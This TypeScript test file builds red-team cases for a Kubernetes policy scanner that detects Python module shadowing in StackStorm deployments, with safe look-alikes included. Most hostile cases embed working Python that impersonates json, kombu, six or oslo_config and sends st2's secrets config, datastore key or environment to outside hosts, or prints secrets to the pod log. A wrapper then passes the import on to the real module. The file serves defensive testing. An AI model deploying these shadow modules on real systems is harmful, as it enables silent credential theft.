/**
 * The fifteenth red team's module shadowing (test/attackers/red15: pyshadow-*),
 * in other words and shapes. Python puts PYTHONPATH's directories before the
 * standard library and site-packages, so a module the render mounts there
 * runs in place of the one st2 imports at start, with st2's config and keys;
 * no list of names says which, so every `.py` under a PYTHONPATH directory is
 * read (src/policy/python-path.ts): a send outside is ST2-SEC-023 (as for
 * sitecustomize.py), a Secret printed to the log ST2-SEC-017, a compiled
 * module (.so, .pyc) there ST2-SEC-030 (code nobody reads, as a preload).
 *
 * Safe: modules that send only into the cluster, a helper posting what its
 * caller hands it, a module that reads a secret for itself and prints a status
 * line, a print of a ConfigMap file, a six.py mounted off the path, and a
 * PYTHONPATH from a ConfigMap key ending in a newline (CPython splits on ':'
 * only: that entry names no directory, nothing is imported from it).
 */
import type { Patch, RedTeamCase } from './corpus.js';
import { bodyCase, type CaseBody } from './case-body.js';
import { DEPLOY, FIRST, patch, SPEC, type Json } from './targets.js';

const JOB = (name: string): Json => ({ group: 'batch', kind: 'Job', name });
const configMap = (name: string, data: Record<string, string>): Json => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name }, data });

/** Mount `volume` at `at` in `target`'s first container and set its PYTHONPATH (env or envFrom entries given). */
const onPath = (target: Json, volume: Json, at: string, env: Json[] | undefined): Patch =>
  patch(
    target,
    { op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'py-overrides', ...volume } },
    { op: 'add', path: `${FIRST}/volumeMounts/-`, value: { name: 'py-overrides', mountPath: at, readOnly: true } },
    ...(env === undefined ? [] : [{ op: 'add', path: `${FIRST}/env`, value: env }]),
  );
const literal = (value: string): Json[] => [{ name: 'PYTHONPATH', value }];

/** One ConfigMap of modules on `dir`, which is PYTHONPATH. */
const modules = (target: Json, files: Record<string, string>, dir = '/opt/py-overrides'): CaseBody => ({
  resources: [configMap('py-overrides', files)],
  patches: [onPath(target, { configMap: { name: 'py-overrides' } }, dir, literal(dir))],
});

/** Code that runs something, then hands the import on to the installed module of the same name. */
const passOn = (payload: string): string =>
  [
    'import importlib.machinery as _m, importlib.util as _u, os as _os, sys as _s',
    'try:',
    `    ${payload}`,
    'except Exception:',
    '    pass',
    '_d = _os.path.dirname(_os.path.dirname(_os.path.abspath(__file__))) if __file__.endswith("__init__.py") else _os.path.dirname(_os.path.abspath(__file__))',
    '_spec = _m.PathFinder.find_spec(__name__, [p for p in _s.path if _os.path.abspath(p or ".") != _d])',
    '_mod = _u.module_from_spec(_spec); _spec.loader.exec_module(_mod); _s.modules[__name__] = _mod',
    '',
  ].join('\n');

const SECRETS_CONF = '/etc/st2/st2.secrets.conf';
const DS_KEY = '/etc/st2/keys/datastore_key.json';

export function fresh15PyshadowCorpus(): RedTeamCase[] {
  const cases: RedTeamCase[] = [];
  const add = (id: string, rule: string | undefined, body: CaseBody): void => {
    cases.push(bodyCase(`f15py-${id}`, 'delivery', rule, body));
  };
  const SEC023 = 'ST2-SEC-023';
  const SEC017 = 'ST2-SEC-017';

  // --- a module standing in for one st2 imports, sending out (ST2-SEC-023) -----------------------------
  // The standard library's own json, found on PYTHONPATH first.
  add('stdlib-json-http-client', SEC023, modules(DEPLOY('st2auth'), {
    'json.py': passOn(`import http.client; c = http.client.HTTPSConnection('ingest.partner-metrics.io'); c.request('POST', '/v2', body=open('${SECRETS_CONF}', 'rb').read())`),
  }));
  // A package whose __init__.py an `items` path puts in a subdirectory of one volume.
  add('package-by-items-path-socket', SEC023, {
    resources: [configMap('py-overrides', { 'oslo-init': passOn(`import socket; socket.create_connection(('203.0.113.77', 8443), 2).sendall(open('${DS_KEY}', 'rb').read())`) })],
    patches: [onPath(DEPLOY('st2actionrunner'), { configMap: { name: 'py-overrides', items: [{ key: 'oslo-init', path: 'oslo_config/__init__.py' }] } }, '/opt/py-overrides', literal('/opt/py-overrides'))],
  });
  // A package mounted into a PYTHONPATH directory nothing else mounts.
  add('package-nested-mount-env', SEC023, {
    resources: [configMap('py-overrides', { '__init__.py': passOn(`import urllib.request, os; urllib.request.urlopen('https://beacon.telemetry-hub.net/env', data=repr(dict(os.environ)).encode(), timeout=2)`) })],
    patches: [onPath(DEPLOY('st2garbagecollector'), { configMap: { name: 'py-overrides' } }, '/opt/site-extra/mongoengine', literal('/opt/site-extra'))],
  });
  // The second of two entries, from a projected Secret source, PYTHONPATH by envFrom.
  add('envfrom-second-entry-projected-secret', SEC023, {
    resources: [
      { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'py-overrides' }, type: 'Opaque', stringData: { 'kombu.py': passOn(`import requests; requests.put('https://sink.example.org/k', data=open('${SECRETS_CONF}').read(), timeout=2)`) } },
      configMap('py-env', { PYTHONPATH: '/opt/stackstorm/st2/lib/python3.8/site-packages:/opt/py-overrides' }),
    ],
    patches: [
      onPath(DEPLOY('st2workflowengine'), { projected: { sources: [{ secret: { name: 'py-overrides' } }] } }, '/opt/py-overrides', undefined),
      patch(DEPLOY('st2workflowengine'), { op: 'add', path: `${FIRST}/envFrom/-`, value: { configMapRef: { name: 'py-env' } } }),
    ],
  });
  // PYTHONPATH by valueFrom, written as a plain scalar.
  add('valuefrom-plain-value', SEC023, {
    resources: [configMap('py-overrides', { 'dateutil.py': passOn(`import urllib.request; urllib.request.urlopen('https://drop.example.net/d', data=open('${DS_KEY}', 'rb').read(), timeout=2)`), where: '/opt/py-overrides' })],
    patches: [onPath(DEPLOY('st2sensorcontainer'), { configMap: { name: 'py-overrides' } }, '/opt/py-overrides', [{ name: 'PYTHONPATH', valueFrom: { configMapKeyRef: { name: 'py-overrides', key: 'where' } } }])],
  });
  add('hook-job-register-content', SEC023, modules(JOB('st2-register-content'), {
    'jsonschema.py': passOn(`import urllib.request; urllib.request.urlopen(urllib.request.Request('http://198.51.100.40:8080/x', data=open('${SECRETS_CONF}', 'rb').read()))`),
  }));

  // A file mounted over the installed module in st2's virtualenv: no PYTHONPATH needed.
  const SITE = '/opt/stackstorm/st2/lib/python3.8/site-packages';
  const overInstalled = (text: string): CaseBody => ({
    resources: [configMap('py-overrides', { 'six.py': text })],
    patches: [
      patch(
        DEPLOY('st2rulesengine'),
        { op: 'add', path: `${SPEC}/volumes/-`, value: { name: 'py-overrides', configMap: { name: 'py-overrides' } } },
        { op: 'add', path: `${FIRST}/volumeMounts/-`, value: { name: 'py-overrides', mountPath: `${SITE}/six.py`, subPath: 'six.py', readOnly: true } },
      ),
    ],
  });
  add('file-over-site-packages-module', SEC023, overInstalled(`import urllib.request\ntry:\n    urllib.request.urlopen('https://drop.example.net/r', data=open('${SECRETS_CONF}', 'rb').read(), timeout=2)\nexcept Exception:\n    pass\nPY2, PY3 = False, True\n`));

  // --- a module printing a Secret into the pod log (ST2-SEC-017) ----------------------------------------
  add('print-secrets-conf-stderr', SEC017, modules(DEPLOY('st2notifier'), { 'kombu.py': passOn(`import sys; print(open('${SECRETS_CONF}').read(), file=sys.stderr)`) }));
  add('logging-datastore-key', SEC017, modules(DEPLOY('st2scheduler'), { 'eventlet.py': passOn(`import logging; logging.warning(open('${DS_KEY}').read())`) }));

  // --- compiled code on PYTHONPATH, as a preloaded library (ST2-SEC-030) --------------------------------
  const ELF = Buffer.from([0x7f, 0x45, 0x4c, 0x46, 0x02, 0x01, 0x01, 0x00]).toString('base64');
  const binary = (data: Record<string, string>): Json => ({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'py-overrides' }, binaryData: data });
  const SEC030 = 'ST2-SEC-030';
  add('extension-module-binarydata', SEC030, {
    resources: [binary({ '_yaml.cpython-38-x86_64-linux-gnu.so': ELF })],
    patches: [onPath(DEPLOY('st2api'), { configMap: { name: 'py-overrides' } }, '/opt/py-overrides', literal('/opt/py-overrides'))],
  });
  add('bytecode-in-pycache', SEC030, {
    resources: [binary({ six: ELF })],
    patches: [onPath(DEPLOY('st2auth'), { configMap: { name: 'py-overrides', items: [{ key: 'six', path: '__pycache__/six.cpython-38.pyc' }] } }, '/opt/py-overrides', literal('/opt/py-overrides'))],
  });
  add('safe-extension-module-off-path', undefined, {
    resources: [binary({ '_yaml.cpython-38-x86_64-linux-gnu.so': ELF })],
    patches: [onPath(DEPLOY('st2api'), { configMap: { name: 'py-overrides' } }, '/opt/vendor-artifacts', undefined)],
  });

  // --- safe look-alikes -----------------------------------------------------------------------------
  add('safe-module-posts-into-cluster', undefined, modules(DEPLOY('st2api'), {
    'corp_tracing.py': "import os, urllib.request\n\ndef flush(spans):\n    urllib.request.urlopen('http://otel-collector.monitoring.svc:4318/v1/traces', data=spans, timeout=2)\n",
  }));
  add('safe-helper-posts-what-it-is-given', undefined, modules(DEPLOY('st2actionrunner'), {
    'chatops_notify.py': 'import requests\n\ndef notify(url, text):\n    return requests.post(url, json={"text": text}, timeout=5)\n',
  }));
  add('safe-module-reads-secret-prints-status', undefined, modules(DEPLOY('st2actionrunner'), {
    'corp_settings.py': `import configparser\n_cfg = configparser.ConfigParser()\n_cfg.read_string(open('${SECRETS_CONF}').read())\nDB_HOST = _cfg.get('database', 'host', fallback='mongodb')\nprint('corp_settings loaded')\n`,
  }));
  add('safe-module-prints-configmap-file', undefined, modules(DEPLOY('st2rulesengine'), {
    'corp_banner.py': "print(open('/etc/st2/st2.docker.conf').read())\n",
  }));
  add('safe-six-mounted-off-path', undefined, {
    resources: [configMap('py-overrides', { 'six.py': passOn(`import urllib.request; urllib.request.urlopen('https://drop.example.net/s', data=open('${SECRETS_CONF}', 'rb').read())`) })],
    patches: [onPath(DEPLOY('st2api'), { configMap: { name: 'py-overrides' } }, '/usr/share/doc/py-overrides', literal('/opt/stackstorm/packs/core/actions/lib'))],
  });
  // `path: |` keeps the newline: PYTHONPATH is "/opt/py-overrides\n", a directory that is not there.
  add('safe-valuefrom-block-newline', undefined, {
    resources: [configMap('py-overrides', { 'six.py': passOn(`import urllib.request; urllib.request.urlopen('https://drop.example.net/s', data=open('${SECRETS_CONF}', 'rb').read())`), where: '/opt/py-overrides\n' })],
    patches: [onPath(DEPLOY('st2auth'), { configMap: { name: 'py-overrides' } }, '/opt/py-overrides', [{ name: 'PYTHONPATH', valueFrom: { configMapKeyRef: { name: 'py-overrides', key: 'where' } } }])],
  });
  add('safe-hotfix-over-site-packages-module', undefined, overInstalled('# hotfix: six 1.16 with PY3 only\nPY2, PY3 = False, True\nstring_types = (str,)\n'));
  return cases;
}
